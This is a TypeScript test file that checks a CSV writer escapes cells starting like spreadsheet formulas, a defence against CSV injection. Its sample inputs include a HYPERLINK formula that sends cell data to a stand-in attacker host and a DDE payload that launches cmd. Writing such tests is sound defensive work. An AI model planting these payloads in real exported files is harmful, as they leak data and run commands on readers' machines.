import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { formatCsv } from '#src/text/csv.ts';

/**
 * Finding: CSV files opened in a spreadsheet run a cell that starts like a
 * formula. The open-data CSV carries what editors typed (titles, summaries)
 * and the reports what citizens' cases hold, so a title "=HYPERLINK(…)" or
 * "@SUM(…)" would be evaluated on the reader's machine. The one CSV writer
 * (src/text/csv.ts, shared by the reports and the open data) writes such a
 * text with a leading apostrophe (OWASP "CSV Injection"; docs/adr/0025).
 */
const HOSTILE = [
  '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

describe('a CSV cell never starts like a formula', () => {
  it.each(HOSTILE)('writes %j so a spreadsheet shows it as text', (value) => {
    const [, row] = parse(formatCsv([['title'], [value]]), { bom: true, relax_quotes: false }) as string[][];
    expect(row![0]).toBe(`'${value}`);
  });

  it('leaves ordinary text and numbers as they are, negative numbers included', () => {
    const [, row] = parse(
      formatCsv([
        ['a', 'b', 'c'],
        ['Quyết định 2567/2007/QĐ-UBND', 12, -3],
      ]),
      { bom: true },
    ) as string[][];
    expect(row).toEqual(['Quyết định 2567/2007/QĐ-UBND', '12', '-3']);
  });
});
